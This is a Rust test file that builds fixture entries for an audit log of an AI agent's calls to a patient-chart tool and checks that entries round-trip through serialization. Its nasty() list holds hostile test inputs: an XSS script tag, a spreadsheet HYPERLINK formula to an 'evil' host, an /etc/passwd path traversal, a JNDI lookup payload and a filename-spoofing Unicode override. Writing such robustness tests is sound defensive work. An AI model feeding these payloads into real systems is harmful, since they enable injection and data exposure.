//! Entries to test reports with.

use crate::json::{Canonical, Json};
use crate::{
    Body, Call, CallError, Completion, Content, Entry, Hash, Kind, Outcome, OwnEntry, Phase, Retention, Trigger,
};

pub(super) fn json(text: &str) -> Canonical {
    Json::parse(text.as_bytes()).unwrap().value.to_canonical()
}

/// A physician's successful read of one patient's chart, changed by `change`.
pub(super) fn call(seq: u64, change: impl FnOnce(&mut Call)) -> Entry {
    let mut call = Call {
        phase: Phase::Whole,
        timestamp: "2026-03-02T14:05:09.1Z".parse().unwrap(),
        conversation_id: "conv_1".to_owned(),
        turn_number: Some(2),
        user_id: "dr_smith".to_owned(),
        model: Some("gpt-4.1".to_owned()),
        agent_id: Some("chart-agent".to_owned()),
        tool_name: "get_patient_chart".to_owned(),
        tool_server: Some("https://ehr.example.org/mcp".to_owned()),
        arguments: Some(json(r#"{"patient_id":"P-1","section":"medications"}"#)),
        trigger: Some(Trigger::UserRequest),
        call_id: Some("call_1".to_owned()),
        follows: None,
        patient_ids: vec!["P-1".to_owned()],
        policy_seq: 1,
        purpose: Some("treatment".to_owned()),
        emergency: false,
        grant: None,
        backfilled: false,
        session_metadata: Some(json(r#"{"client_ip":"10.0.1.5","user_role":"physician"}"#)),
        completion: Some(Completion {
            outcome: Outcome::Ok,
            duration_ms: Some(12.5),
            result_summary: Some(json(
                r#"{"bytes":240,"fields":["allergies","chart_id","medications","status"],"keys":{"chart_id":"C-9","status":"deceased"},"type":"object"}"#,
            )),
            error: None,
        }),
        treated: None,
        restated: Vec::new(),
        sender: None,
    };
    change(&mut call);
    entry(seq, Content::Call(Box::new(call)), true)
}

/// The same, failed.
pub(super) fn failed(seq: u64, outcome: Outcome) -> Entry {
    call(seq, |c| {
        c.completion = Some(Completion {
            outcome,
            duration_ms: None,
            result_summary: None,
            error: Some(CallError { kind: Some("E42".to_owned()), message: "HIV positive".to_owned() }),
        });
    })
}

/// The two steps of one call.
pub(super) fn begun_and_finished(begun: u64, finished: u64) -> (Entry, Entry) {
    let first = call(begun, |c| {
        c.phase = Phase::Begun;
        c.completion = None;
    });
    let second = call(finished, |c| {
        c.phase = Phase::Finished(begun);
        c.timestamp = "2026-03-02T14:05:11Z".parse().unwrap();
    });
    (first, second)
}

/// One of the store's own entries.
pub(super) fn own(seq: u64, kind: Kind, detail: &str) -> Entry {
    entry(seq, Content::Own(OwnEntry { kind, detail: json(detail) }), false)
}

fn entry(seq: u64, content: Content, kept: bool) -> Entry {
    let retention = kept.then(|| Retention { class: "healthcare".to_owned(), until: "2032-03-02".parse().unwrap() });
    let body = Body { nonce: [7; 16], recorded_at: "2026-03-02T14:05:09.123Z".parse().unwrap(), retention, content };
    Entry { seq, prev: Hash::leaf(&seq.to_be_bytes()), body }
}

/// Ids that have broken some report somewhere.
pub(super) fn nasty() -> Vec<String> {
    let mut ids: Vec<String> = [
        "<script>alert(1)</script>",
        "\"quoted\" and 'quoted'",
        "two\nlines\r\nand more",
        "=HYPERLINK(\"http://evil\",\"x\")",
        "]]></td></table><h1>",
        "tab\there",
        "\u{1b}[31mred\u{7}",
        "\u{202e}gnp.exe",
        " ",
        "Ünïcödé 患者 🏥",
        "../../etc/passwd",
        "{{7*7}} ${jndi:ldap://x}",
        "Patient/1?_format=json#x",
    ]
    .map(str::to_owned)
    .to_vec();
    ids.push("x".repeat(10_000));
    ids
}

#[test]
fn entries_come_back_from_their_lines() {
    let (first, second) = begun_and_finished(1, 2);
    let full = call(3, |c| {
        c.trigger = Some(Trigger::FollowUp);
        c.follows = Some(1);
        c.emergency = true;
        c.grant = Some(9);
        c.backfilled = true;
        c.restated = vec!["arguments.n".to_owned()];
        c.sender = Some(crate::Sender::new("s", 1));
        c.patient_ids = nasty();
    });
    for entry in [first, second, full, failed(4, Outcome::Timeout), own(5, Kind::Policy, r#"{"a":1}"#)] {
        let line = entry.line();
        assert_eq!(Entry::from_line(&line).unwrap(), entry);
        for (from, to) in [("\"seq\":", "\"seq\": "), ("{", "{\"AAA\":1,"), ("\"nonce\":\"07", "\"nonce\":\"0g")] {
            assert!(Entry::from_line(&line.replacen(from, to, 1)).is_err(), "{from}");
        }
    }
    assert!(Entry::from_line("{}").is_err() && Entry::from_line("[]").is_err());
}
